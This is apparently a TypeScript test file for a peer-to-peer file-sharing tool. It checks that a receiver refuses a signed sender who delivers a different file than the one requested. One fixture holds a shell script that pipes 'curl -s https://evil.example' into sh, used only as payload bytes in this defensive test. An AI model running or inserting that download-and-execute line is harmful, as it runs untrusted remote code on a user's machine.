/**
 * What arrives must be what was asked for: a sender that announces one file and delivers
 * another (correctly encrypted and signed by its own key) is refused before anything is saved.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { type Bytes, sha256, utf8 } from "../src/crypto/bytes.ts";
import type { Identity } from "../src/crypto/identity.ts";
import { LABEL } from "../src/crypto/labels.ts";
import { sign } from "../src/crypto/sign.ts";
import { DEFAULT_CHUNK_SIZE, sealChunk } from "../src/crypto/stream.ts";
import { isSfsError } from "../src/errors.ts";
import { fetchFile } from "../src/peer/receiver.ts";
import { signFileManifest } from "../src/peer/file_manifest.ts";
import { formatTicket } from "../src/peer/ticket.ts";
import { fileIdOf } from "../src/crypto/file_id.ts";
import { finalSignedData } from "../src/peer/final_signed_data.ts";
import { respond } from "../src/wire/handshake.ts";
import { type Manifest, MessageType } from "../src/wire/messages.ts";
import { tempDir } from "./harness.ts";
import { testHome, testIdentity } from "./identities.ts";
import { serveLoopback } from "./loopback_server.ts";
import { doneOf, errorOf, get, listTree } from "./peers.ts";

/** A real sender lets the receiver's GET ride in the handshake (§6.4); so do these fakes. */
const EARLY_GET: ReadonlySet<number> = new Set([MessageType.GET]);

/** One small file as a sender would describe it. */
interface Served {
  readonly name: string;
  readonly content: Bytes;
}

/**
 * A sender that answers any request with `delivered`'s manifest, content and valid signatures,
 * but with the requested file id in the manifest, as if it were the file asked for.
 */
function startLyingSender(
  identity: Identity,
  delivered: Served,
): AsyncDisposable & { port: number } {
  const serve = async (conn: Deno.Conn): Promise<void> => {
    const channel = await respond(conn, identity, { idleTimeoutMs: 10_000, earlyTypes: EARLY_GET });
    try {
      const request = await channel.expect(MessageType.GET);
      const fields = {
        name: delivered.name,
        size: delivered.content.length,
        sha256: await sha256(delivered.content),
        executable: false,
        mtime: 0,
        createdAt: 0,
      };
      const manifest: Manifest = {
        type: MessageType.MANIFEST,
        fileId: request.fileId,
        ...fields,
        chunkSize: DEFAULT_CHUNK_SIZE,
        offset: 0,
        // Signed like a real sender's one-entry manifest (F5.2).
        manifestSignatures: (await signFileManifest(identity, fields)).signatures,
      };
      await channel.send(manifest);
      await channel.sendChunk(await sealChunk(channel.payloadKey, 0, true, delivered.content));
      const signed = await finalSignedData(channel.transcriptHash, manifest);
      const signatures = await sign(identity, LABEL.FINAL_SIGNATURE, signed, "both");
      await channel.send({ type: MessageType.FINAL, signatures });
      await channel.expect(MessageType.RECEIPT);
    } finally {
      channel.close();
    }
  };
  const server = serveLoopback(serve);
  return {
    port: server.port,
    [Symbol.asyncDispose]: () => server[Symbol.asyncDispose](),
  };
}

const INNOCENT: Served = { name: "innocent.txt", content: utf8("hello\n") };
const EVIL: Served = {
  name: "evil.sh",
  content: utf8("#!/bin/sh\ncurl -s https://evil.example | sh\n"),
};

async function idOf(owner: Identity, file: Served): Promise<Bytes> {
  return await fileIdOf(owner.public.fingerprint, await sha256(file.content), file.name);
}

Deno.test("sfs get refuses a sender that delivers another of its files under the id asked for", async () => {
  await using dir = await tempDir();
  const bob = await testHome(dir.path, "bob");
  const mallory = await testIdentity("mallory");
  const out = join(dir.path, "out");
  await using lying = startLyingSender(mallory, EVIL);
  const ticket = formatTicket({
    host: "127.0.0.1",
    port: lying.port,
    fileId: await idOf(mallory, INNOCENT),
    fingerprint: mallory.public.fingerprint,
  });
  const result = await get(bob, ticket, out);
  assert.equal(result.code, 3, result.stderr);
  assert.equal(errorOf(result).code, "MANIFEST_MISMATCH");
  assert.deepEqual(await listTree(out), []);

  // The control: asked for by its own id, the same file is accepted.
  const honest = formatTicket({
    host: "127.0.0.1",
    port: lying.port,
    fileId: await idOf(mallory, EVIL),
    fingerprint: mallory.public.fingerprint,
  });
  assert.equal(doneOf(await get(bob, honest, out)).bytes, EVIL.content.length);
});

Deno.test("fetchFile() refuses a manifest that differs from the listing it was asked for", async (t) => {
  await using dir = await tempDir();
  const bob = await testIdentity("bob");
  const mallory = await testIdentity("mallory");
  await using lying = startLyingSender(mallory, EVIL);
  const evil = { name: EVIL.name, size: EVIL.content.length, sha256: await sha256(EVIL.content) };
  // The file id matches what arrives; the listing (as if ids collided) names another file.
  const cases: Array<[string, typeof evil]> = [
    ["another name", { ...evil, name: INNOCENT.name }],
    ["another size", { ...evil, size: 6 }],
    ["another SHA-256", { ...evil, sha256: await sha256(INNOCENT.content) }],
  ];
  let n = 0;
  for (const [what, listing] of cases) {
    await t.step(what, async () => {
      const out = join(dir.path, `out-${n++}`);
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: lying.port });
      await assert.rejects(
        fetchFile(conn, bob, {
          fileId: await idOf(mallory, EVIL),
          expectedFingerprint: mallory.public.fingerprint,
          outDir: out,
          expectListing: listing,
        }),
        (err) => isSfsError(err, "MANIFEST_MISMATCH"),
      );
      assert.deepEqual(await listTree(out), []);
    });
  }
});
